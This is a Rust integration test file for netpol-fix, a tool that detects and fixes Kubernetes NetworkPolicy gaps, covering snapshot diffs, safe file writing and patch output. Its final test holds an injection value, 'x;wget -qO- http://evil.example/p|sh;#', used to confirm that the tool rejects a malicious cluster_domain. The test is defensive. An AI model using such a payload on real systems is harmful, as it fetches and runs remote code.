//! Per rule: the finding, its fix, and the exact diff `--diff` prints, as snapshots in
//! `fixtures/fixes/` (`UPDATE_SNAPSHOTS=1` rewrites them); and `--write` on a copy of the demo.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use netpol_fix::check::{CheckOptions, check};
use netpol_fix::fix::{Summary, apply::fix_all, fixes, output::write_diff, summaries};
use netpol_fix::load::Input;

/// Cases from `fixtures/rules/`, with whether unsafe fixes are included.
const CASES: [(&str, bool); 13] = [
    ("missing-dns-egress/default-deny-no-dns", false),
    ("missing-dns-egress/calico-global-default-deny", false),
    ("missing-service-egress/calico-security-tier-deny", false),
    ("missing-dns-egress/node-local-dns-pod-selector-only", false),
    ("missing-dns-egress/coredns-targetport-5353-blocked", false),
    ("missing-apiserver-egress/config-cidrs-not-covered", false),
    ("missing-apiserver-egress/rolebinding", true),
    ("missing-mlflow-egress/literal-fqdn", false),
    ("missing-service-egress/env-host-port", false),
    ("missing-service-ingress/client-not-isolated", false),
    ("missing-service-ingress/dns-ingress-blocked", false),
    ("hardcoded-ip/metallb-annotation", false),
    ("hardcoded-ip/configmap-lb-ip", false),
];

fn snapshot(case: &str, include_unsafe: bool) -> String {
    let dir = format!("fixtures/rules/{case}");
    let options = CheckOptions {
        config_root: Some(dir.clone().into()),
        ..CheckOptions::default()
    };
    let inputs = [Input::Path(format!("{dir}/world.yaml").into())];
    let before = check(&inputs, &options);
    let mut out = String::from("# findings, with their fixes\n");
    for (f, fix) in before.findings.iter().zip(fixes(&before)) {
        out.push_str(&format!(
            "{} {} {} {}\n",
            f.rule,
            f.severity.as_str(),
            f.object,
            f.side.map_or("-", |s| s.as_str())
        ));
        match fix {
            Ok(fix) => out.push_str(&format!(
                "  fix ({}): {}\n",
                fix.applicability.as_str(),
                fix.title
            )),
            Err(why) => out.push_str(&format!("  {why}\n")),
        }
    }
    let outcome = fix_all(&inputs, &options, include_unsafe);
    out.push_str(&format!(
        "# diff{}\n",
        if include_unsafe {
            " (with --unsafe-fixes)"
        } else {
            ""
        }
    ));
    let mut diff = Vec::new();
    write_diff(&mut diff, &outcome).unwrap();
    out.push_str(&String::from_utf8(diff).unwrap());
    out.push_str("# remaining after the fix\n");
    for f in &outcome.run.findings {
        out.push_str(&format!(
            "{} {} {}\n",
            f.rule,
            f.severity.as_str(),
            f.object
        ));
    }
    out
}

#[test]
fn fix_snapshots_per_rule() {
    let mut failures = Vec::new();
    for (case, include_unsafe) in CASES {
        let actual = snapshot(case, include_unsafe);
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/fixes")
            .join(format!("{}.snap", case.replace('/', "--")));
        if std::env::var_os("UPDATE_SNAPSHOTS").is_some() {
            fs::write(&path, &actual).unwrap();
        }
        if fs::read_to_string(&path).unwrap_or_default() != actual {
            failures.push(format!("{case}:\n{actual}"));
        }
    }
    assert!(
        failures.is_empty(),
        "snapshots differ (UPDATE_SNAPSHOTS=1 to accept):\n{}",
        failures.join("\n")
    );
}

/// Reports show `summaries` (no text rendered); they must name exactly the fixes applied.
#[test]
fn report_summaries_are_the_fixes_titles() {
    let options = CheckOptions {
        config_root: Some("fixtures/demo".into()),
        ..CheckOptions::default()
    };
    let run = check(&[Input::Path("fixtures/demo".into())], &options);
    let full: Vec<Result<Summary, String>> = fixes(&run)
        .map(|fix| {
            fix.map(|fix| Summary {
                title: fix.title,
                applicability: fix.applicability,
            })
        })
        .collect();
    let summarised: Vec<Result<Summary, String>> = summaries(&run).collect();
    assert!(full.iter().filter(|f| f.is_ok()).count() >= 5);
    assert_eq!(summarised, full);
}

fn netpol_fix(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_netpol-fix"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

/// `explain` of one flow in a tree (exit 0 allowed, 1 denied).
fn explain(tree: &str, from: &str, to: &str, port: &str, protocol: &str) -> std::process::Output {
    netpol_fix(&[
        "explain",
        tree,
        "--from",
        from,
        "--to",
        to,
        "--port",
        port,
        "--protocol",
        protocol,
    ])
}

fn copy_dir(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_dir(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).unwrap();
        }
    }
}

#[test]
fn write_on_a_copy_of_the_demo_fixes_the_findings_and_only_them() {
    let tmp = tempfile::tempdir().unwrap();
    let demo = tmp.path().join("demo");
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"),
        &demo,
    );
    let demo_arg = demo.to_str().unwrap();
    let frontend_before = fs::read(demo.join("apps/frontend.yaml")).unwrap();

    let blocked = [
        ("argo/argo-server", "kube-system/coredns", "53", "UDP"),
        ("mlflow/mlflow", "kube-system/coredns", "53", "UDP"),
        ("seldon/mlserver", "mlflow/mlflow", "5000", "TCP"),
        ("apps/report", "mlflow/mlflow", "5000", "TCP"),
    ];
    for (from, to, port, proto) in blocked {
        let out = explain(demo_arg, from, to, port, proto);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{from} -> {to} is blocked before the fix"
        );
    }
    let write = netpol_fix(&["--write", demo_arg]);
    let stderr = String::from_utf8_lossy(&write.stderr);
    assert!(stderr.contains("applied 10 fixes to 5 files"), "{stderr}");
    // What remains needs the API server address, which only configuration can give.
    let after = netpol_fix(&["check", demo_arg, "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&after.stdout).unwrap();
    let remaining: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(
        remaining,
        ["missing-apiserver-egress", "missing-apiserver-egress"]
    );
    for (from, to, port, proto) in blocked {
        let out = explain(demo_arg, from, to, port, proto);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{from} -> {to} is allowed after the fix: {}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    // Unrelated flows stay denied.
    for (from, to, port) in [
        ("apps/frontend", "apps/db", "5432"),
        ("argo/argo-server", "mlflow/postgres", "5432"),
    ] {
        let out = explain(demo_arg, from, to, port, "TCP");
        assert_eq!(
            out.status.code(),
            Some(1),
            "{from} -> {to} must stay denied"
        );
    }
    // Untouched files keep every byte (this one has CRLF line ends), and a second run is a no-op.
    assert_eq!(
        fs::read(demo.join("apps/frontend.yaml")).unwrap(),
        frontend_before
    );
    let again = netpol_fix(&["--diff", demo_arg]);
    assert_eq!(again.status.code(), Some(0), "an empty diff exits 0");
    // Nothing but the line saying what was not analysed (the demo's unrendered chart).
    let again = String::from_utf8_lossy(&again.stdout);
    assert!(
        again.lines().all(|l| l.starts_with("# not analysed: ")),
        "{again}"
    );
}

#[test]
fn write_keeps_mode_and_refuses_stdin_and_escaping_symlinks() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let tmp = tempfile::tempdir().unwrap();
    let tree = tmp.path().join("tree");
    fs::create_dir(&tree).unwrap();
    let case = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/rules/missing-dns-egress/default-deny-no-dns/world.yaml");
    fs::copy(&case, tree.join("world.yaml")).unwrap();
    fs::set_permissions(tree.join("world.yaml"), fs::Permissions::from_mode(0o640)).unwrap();
    let out = netpol_fix(&["--write", tree.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        fs::metadata(tree.join("world.yaml"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777,
        0o640
    );
    assert!(
        fs::read_to_string(tree.join("world.yaml"))
            .unwrap()
            .contains("allow-dns")
    );

    // A symlink inside the tree pointing outside it is analysed but never written through.
    let outside = tmp.path().join("outside.yaml");
    fs::copy(&case, &outside).unwrap();
    let linked = tmp.path().join("linked");
    fs::create_dir(&linked).unwrap();
    symlink(&outside, linked.join("world.yaml")).unwrap();
    let out = netpol_fix(&["--write", linked.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("outside the paths given"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(fs::read(&outside).unwrap(), fs::read(&case).unwrap());

    let mut child = Command::new(env!("CARGO_BIN_EXE_netpol-fix"))
        .args(["--write", "-"])
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("stdin cannot be written"));
}

#[test]
fn patches_write_new_policies_and_a_kustomization_without_touching_sources() {
    let tmp = tempfile::tempdir().unwrap();
    let case = "fixtures/rules/missing-dns-egress/default-deny-no-dns";
    let before = fs::read(format!("{case}/world.yaml")).unwrap();
    let out = netpol_fix(&[case, "--patches", tmp.path().to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(fs::read(format!("{case}/world.yaml")).unwrap(), before);
    let kustomization = fs::read_to_string(tmp.path().join("kustomization.yaml")).unwrap();
    let resources: Vec<&str> = kustomization
        .lines()
        .filter_map(|l| l.strip_prefix("- "))
        .collect();
    assert!(!resources.is_empty(), "{kustomization}");
    for r in resources {
        let doc = fs::read_to_string(tmp.path().join(r)).unwrap();
        assert!(doc.contains("kind: NetworkPolicy"), "{doc}");
    }
    // The patch directory plus the sources check clean.
    let combined = netpol_fix(&[
        "check",
        case,
        tmp.path().to_str().unwrap(),
        "--select",
        "missing-dns-egress",
    ]);
    assert_eq!(
        combined.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&combined.stdout)
    );
}

#[test]
fn write_keeps_bom_and_crlf_line_ends_and_is_idempotent() {
    let tmp = tempfile::tempdir().unwrap();
    let case = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/rules/missing-dns-egress/default-deny-no-dns/world.yaml");
    let text = fs::read_to_string(case).unwrap().replace('\n', "\r\n");
    let file = tmp.path().join("world.yaml");
    fs::write(&file, format!("\u{feff}{text}")).unwrap();
    let out = netpol_fix(&["--write", tmp.path().to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let fixed = fs::read_to_string(&file).unwrap();
    assert!(fixed.starts_with('\u{feff}'));
    assert!(fixed.len() > text.len() + 3, "a policy was added");
    assert!(
        !fixed.replace("\r\n", "").contains('\n'),
        "every line ends in CRLF"
    );
    assert!(fixed.starts_with(&format!("\u{feff}{text}")[..100]));
    let second = netpol_fix(&["--write", tmp.path().to_str().unwrap()]);
    assert_eq!(second.status.code(), Some(0));
    assert_eq!(
        fs::read_to_string(&file).unwrap(),
        fixed,
        "--write twice equals --write once"
    );
}

#[test]
fn stdin_can_be_diffed() {
    use std::io::Write;
    let case = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/rules/missing-dns-egress/default-deny-no-dns/world.yaml");
    let mut child = Command::new(env!("CARGO_BIN_EXE_netpol-fix"))
        .args(["--diff", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(&fs::read(case).unwrap())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let diff = String::from_utf8_lossy(&out.stdout);
    assert!(diff.starts_with("--- a/-\n+++ b/-\n"), "{diff}");
    assert!(diff.contains("+  name: web-allow-dns"), "{diff}");
}

#[test]
fn nothing_is_written_when_the_input_has_errors() {
    let tmp = tempfile::tempdir().unwrap();
    let case = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/rules/missing-dns-egress/default-deny-no-dns/world.yaml");
    fs::copy(&case, tmp.path().join("world.yaml")).unwrap();
    fs::write(
        tmp.path().join("broken.yaml"),
        "apiVersion: v1\nkind: ConfigMap\ndata: [\n",
    )
    .unwrap();
    let out = netpol_fix(&["--write", tmp.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing was written"));
    assert_eq!(
        fs::read(tmp.path().join("world.yaml")).unwrap(),
        fs::read(&case).unwrap()
    );
}

#[test]
fn patches_express_value_rewrites_as_strategic_merge_patches() {
    let tmp = tempfile::tempdir().unwrap();
    let out = netpol_fix(&["fixtures/demo", "--patches", tmp.path().to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let kustomization = fs::read_to_string(tmp.path().join("kustomization.yaml")).unwrap();
    assert!(
        kustomization.contains("patches:\n- path: patch-deployment-apps-backend-1.yaml\n"),
        "{kustomization}"
    );
    assert!(
        kustomization.contains(
            "# not expressible as a patch (apply with --write): replace `192.168.10.241`"
        ),
        "{kustomization}"
    );
    let patch =
        fs::read_to_string(tmp.path().join("patch-deployment-apps-backend-1.yaml")).unwrap();
    assert_eq!(
        patch,
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: backend\n  namespace: apps\nspec:\n  template:\n    spec:\n      containers:\n      - name: backend\n        env:\n        - name: DB_HOST\n          value: db.apps.svc.cluster.local\n"
    );
}

#[test]
fn a_policy_in_a_json_file_gets_no_yaml_document_appended() {
    // JSON is recognised by its content, whatever the file is called.
    let tmp = tempfile::tempdir().unwrap();
    let policy = tmp.path().join("deny.JSON");
    fs::write(&policy, r#"{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": "deny", "namespace": "shop"}, "spec": {"podSelector": {}, "policyTypes": ["Egress"]}}"#).unwrap();
    fs::write(
        tmp.path().join("web.yaml"),
        "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web, namespace: shop}\nspec: {template: {metadata: {labels: {app: web}}}}\n",
    )
    .unwrap();
    let out = netpol_fix(&["--diff", tmp.path().to_str().unwrap()]);
    assert!(
        out.stdout.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let human = netpol_fix(&["check", tmp.path().to_str().unwrap()]);
    assert!(
        String::from_utf8_lossy(&human.stdout)
            .contains("no safe fix: the policies of namespace shop are in JSON files")
    );
}

/// Every file of a tree, by path relative to it.
fn tree_files(root: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    let mut files = std::collections::BTreeMap::new();
    let mut dirs = vec![root.to_path_buf()];
    while let Some(dir) = dirs.pop() {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                dirs.push(path);
            } else {
                let name = path.strip_prefix(root).unwrap().display().to_string();
                files.insert(name, fs::read(&path).unwrap());
            }
        }
    }
    files
}

#[test]
fn concurrent_writes_on_one_tree_end_as_one_write_would() {
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo");
    let tmp = tempfile::tempdir().unwrap();
    let reference = tmp.path().join("reference");
    copy_dir(&demo, &reference);
    netpol_fix(&["--write", reference.to_str().unwrap()]);
    let expected = tree_files(&reference);
    for round in 0..3 {
        let tree = tmp.path().join(format!("race-{round}"));
        copy_dir(&demo, &tree);
        let runs: Vec<std::process::Child> = (0..2)
            .map(|_| {
                Command::new(env!("CARGO_BIN_EXE_netpol-fix"))
                    .args(["--write", tree.to_str().unwrap()])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::piped())
                    .spawn()
                    .unwrap()
            })
            .collect();
        let outputs: Vec<_> = runs
            .into_iter()
            .map(|c| c.wait_with_output().unwrap())
            .collect();
        // Whichever run wrote, the tree is the one-run result: no interleaving, no
        // half-written file, no temporary file left behind.
        assert_eq!(
            tree_files(&tree),
            expected,
            "round {round}: {:?}",
            outputs
                .iter()
                .map(|o| String::from_utf8_lossy(&o.stderr).into_owned())
                .collect::<Vec<_>>()
        );
    }
}

/// The lock protocol of `--write`: a run that finds a file locked waits, then sees that the
/// file changed since it was analysed and writes nothing at all (not even the other files).
#[test]
fn write_waits_for_a_locked_file_and_refuses_it_when_it_changed_meanwhile() {
    let tmp = tempfile::tempdir().unwrap();
    let demo = tmp.path().join("demo");
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"),
        &demo,
    );
    let before = tree_files(&demo);
    // A file the demo's fixes edit (the hardcoded ClusterIP), held locked as another run would.
    let backend = demo.join("apps/backend.yaml");
    let lock = fs::File::open(&backend).unwrap();
    lock.lock().unwrap();
    let run = Command::new(env!("CARGO_BIN_EXE_netpol-fix"))
        .args(["--write", demo.to_str().unwrap()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Long enough for the run to analyse the tree and block on the lock.
    std::thread::sleep(std::time::Duration::from_secs(3));
    let changed = format!(
        "{}# edited meanwhile\n",
        String::from_utf8(before["apps/backend.yaml"].clone()).unwrap()
    );
    fs::write(&backend, &changed).unwrap();
    drop(lock);
    let out = run.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("changed on disk"), "{stderr}");
    let mut expected = before;
    expected.insert("apps/backend.yaml".into(), changed.into_bytes());
    assert_eq!(
        tree_files(&demo),
        expected,
        "nothing else was written: {stderr}"
    );
}

#[test]
fn a_file_changed_after_it_was_analysed_gets_no_fix() {
    let tmp = tempfile::tempdir().unwrap();
    let case = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/rules/missing-dns-egress/default-deny-no-dns");
    copy_dir(&case, tmp.path());
    let input = [Input::Path(tmp.path().to_path_buf())];
    let run = check(&input, &CheckOptions::default());
    assert!(!run.findings.is_empty());
    // Someone edits the tree while the fixes are computed.
    for entry in fs::read_dir(tmp.path()).unwrap() {
        let path = entry.unwrap().path();
        let mut text = fs::read_to_string(&path).unwrap();
        text.push_str("# edited meanwhile\n");
        fs::write(&path, text).unwrap();
    }
    let results: Vec<Result<_, String>> = fixes(&run).collect();
    assert!(!results.is_empty());
    for result in results {
        let Err(problem) = result else {
            panic!("a fix was computed on a text that changed");
        };
        assert!(problem.contains("changed"), "{problem}");
    }
}

/// An added policy's name is taken by no existing policy and by no other fix of the run, even
/// though fixes are computed in parallel: two workloads named `web` (a Deployment and a
/// StatefulSet) both need DNS where `web-allow-dns` exists already.
#[test]
fn added_policies_get_names_no_policy_and_no_earlier_fix_has() {
    let tmp = tempfile::tempdir().unwrap();
    let workload = |kind: &str, app: &str| {
        format!(
            "apiVersion: apps/v1\nkind: {kind}\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  selector:\n    matchLabels:\n      app: {app}\n  template:\n    metadata:\n      labels:\n        app: {app}\n    spec:\n      containers:\n      - name: web\n        image: ghcr.io/example/web:1.0.0\n"
        )
    };
    let policies = "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: default-deny\n  namespace: shop\nspec:\n  podSelector: {}\n  policyTypes:\n  - Egress\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: web-allow-dns\n  namespace: shop\nspec:\n  podSelector:\n    matchLabels:\n      app: nobody\n  policyTypes:\n  - Ingress\n";
    fs::write(
        tmp.path().join("deployment.yaml"),
        workload("Deployment", "web"),
    )
    .unwrap();
    fs::write(
        tmp.path().join("statefulset.yaml"),
        workload("StatefulSet", "web-db"),
    )
    .unwrap();
    fs::write(tmp.path().join("policies.yaml"), policies).unwrap();
    let run = check(
        &[Input::Path(tmp.path().to_path_buf())],
        &CheckOptions::default(),
    );
    let titles: Vec<String> = summaries(&run).map(|s| s.unwrap().title).collect();
    let names: Vec<&str> = titles
        .iter()
        .map(|t| t.split_whitespace().nth(2).unwrap())
        .collect();
    assert_eq!(
        names,
        ["shop/web-allow-dns-2", "shop/web-allow-dns-3"],
        "{titles:?}"
    );
    let fixed: Vec<String> = fixes(&run).map(|f| f.unwrap().title).collect();
    assert_eq!(fixed, titles);
}

/// `--write` keeps a file's owner and group (a run as root must not hand it to root), and
/// refuses, leaving them untouched, a read-only file and a file with several hard links (the
/// other links would keep the old text).
#[cfg(unix)]
#[test]
fn write_keeps_owner_and_refuses_read_only_and_hard_linked_files() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let case = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures/rules/missing-dns-egress/default-deny-no-dns/world.yaml");
    let original = fs::read(&case).unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let tree = |name: &str| {
        let dir = tmp.path().join(name);
        fs::create_dir(&dir).unwrap();
        fs::copy(&case, dir.join("world.yaml")).unwrap();
        dir
    };
    let write = |dir: &Path| netpol_fix(&["--write", dir.to_str().unwrap()]);

    let read_only = tree("read-only");
    fs::set_permissions(
        read_only.join("world.yaml"),
        fs::Permissions::from_mode(0o444),
    )
    .unwrap();
    let out = write(&read_only);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("read-only"),
        "{out:?}"
    );
    assert_eq!(fs::read(read_only.join("world.yaml")).unwrap(), original);

    let linked = tree("linked");
    fs::hard_link(
        linked.join("world.yaml"),
        tmp.path().join("other-name.yaml"),
    )
    .unwrap();
    let out = write(&linked);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("2 hard links"),
        "{out:?}"
    );
    assert_eq!(
        fs::read(tmp.path().join("other-name.yaml")).unwrap(),
        original
    );

    // Only root can give a file away; elsewhere the owner is the one running the test anyway.
    let owned = tree("owned");
    let file = owned.join("world.yaml");
    if std::os::unix::fs::chown(&file, Some(4321), Some(4321)).is_ok() {
        let out = write(&owned);
        assert_eq!(out.status.code(), Some(0), "{out:?}");
        assert!(fs::read_to_string(&file).unwrap().contains("allow-dns"));
        let meta = fs::metadata(&file).unwrap();
        assert_eq!((meta.uid(), meta.gid()), (4321, 4321));
    }
}

/// A tree of 1,500 files, each a namespace whose default deny needs a DNS fix (so `--write`
/// stages for a while); returns the directory holding it, the tree and each file's text.
fn tree_of_fixable_files() -> (tempfile::TempDir, PathBuf, Vec<(PathBuf, String)>) {
    let world = fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("fixtures/rules/missing-dns-egress/default-deny-no-dns/world.yaml"),
    )
    .unwrap();
    let tmp = tempfile::tempdir().unwrap();
    let tree = tmp.path().join("tree");
    fs::create_dir(&tree).unwrap();
    let files = (0..1500)
        .map(|i| {
            let path = tree.join(format!("ns-{i:04}.yaml"));
            let text = world.replace("namespace: shop", &format!("namespace: ns-{i}"));
            fs::write(&path, &text).unwrap();
            (path, text)
        })
        .collect();
    (tmp, tree, files)
}

/// How many files `--write` has staged in `dir` and not yet renamed.
fn staged_files(dir: &Path) -> usize {
    fs::read_dir(dir)
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().starts_with(".netpol-fix-"))
        .count()
}

/// Runs `--write` on `tree` and, once it has staged more than `staged` files, does `act` with
/// its process id; returns what the run printed and whether `act` ran.
fn write_and_when_staged(
    tree: &Path,
    staged: usize,
    act: impl FnOnce(u32),
) -> (std::process::Output, bool) {
    let child = Command::new(env!("CARGO_BIN_EXE_netpol-fix"))
        .args(["--write", tree.to_str().unwrap()])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    let mut acted = false;
    while started.elapsed().as_secs() < 120 {
        if staged_files(tree) > staged {
            act(child.id());
            acted = true;
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    (child.wait_with_output().unwrap(), acted)
}

/// An interrupted `--write` leaves every file wholly old or wholly new, and no temporary file:
/// SIGINT arrives while the fixed files are being staged (the first temporary file exists),
/// and the run removes what it staged and writes nothing.
#[cfg(unix)]
#[test]
fn an_interrupted_write_leaves_no_half_written_tree() {
    let (_tmp, tree, originals) = tree_of_fixable_files();
    let (out, signalled) = write_and_when_staged(&tree, 0, |pid| {
        let kill = Command::new("kill")
            .args(["-INT", &pid.to_string()])
            .status()
            .unwrap();
        assert!(kill.success());
    });
    assert_eq!(staged_files(&tree), 0, "temporary files left behind");
    // Staging 1,500 files (each synced) takes far longer than a signal: it came while staging.
    assert!(signalled, "the run ended before it staged a file");
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("interrupted"), "{stderr}");
    // Nothing was written.
    for (path, text) in &originals {
        assert_eq!(&fs::read_to_string(path).unwrap(), text);
    }
}

/// A file saved by an editor (which takes no lock) after `--write` staged it is not
/// overwritten: it is checked again right before its rename, and nothing is written.
#[cfg(unix)]
#[test]
fn a_file_changed_while_write_runs_keeps_the_change() {
    let (_tmp, tree, files) = tree_of_fixable_files();
    let first = files[0].0.clone();
    let edited = fs::read_to_string(&first).unwrap() + "# saved by an editor\n";
    // The first file (in path order) is staged first: change it once others are staged.
    let (out, changed) = write_and_when_staged(&tree, 100, |_| fs::write(&first, &edited).unwrap());
    assert!(changed, "the run ended before files were staged: {out:?}");
    assert_eq!(fs::read_to_string(&first).unwrap(), edited);
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("changed on disk"), "{stderr}");
    assert_eq!(staged_files(&tree), 0);
    // All or nothing: no other file was written either.
    let written = fs::read_dir(&tree)
        .unwrap()
        .filter(|e| {
            fs::read_to_string(e.as_ref().unwrap().path())
                .unwrap()
                .contains("allow-dns")
        })
        .count();
    assert_eq!(written, 0);
}

/// Item 7 of the output boundary: the hardcoded-IP fix writes `<service>.<namespace>.svc.<cluster_domain>`
/// into a value; a `cluster_domain` (configuration a pull request can change) that is no DNS
/// name gets no fix, and the finding says why.
#[test]
fn a_cluster_domain_that_is_no_dns_name_gets_no_host_fix() {
    let tmp = tempfile::tempdir().unwrap();
    let demo = tmp.path().join("demo");
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"),
        &demo,
    );
    fs::write(
        demo.join("netpol-fix.yaml"),
        "cluster_domain: \"x;wget -qO- http://evil.example/p|sh;#\"\n",
    )
    .unwrap();
    let demo_arg = demo.to_str().unwrap();
    let out = netpol_fix(&[demo_arg, "--write"]);
    let backend = fs::read_to_string(demo.join("apps/backend.yaml")).unwrap();
    assert!(backend.contains("value: 10.96.55.12"), "{backend}");
    assert!(!backend.contains("evil.example"), "{backend}");
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.contains("no fix: cluster_domain \"x;wget -qO- http://evil.example/p|sh;#\" is not a valid DNS name"),
        "{out}"
    );
}
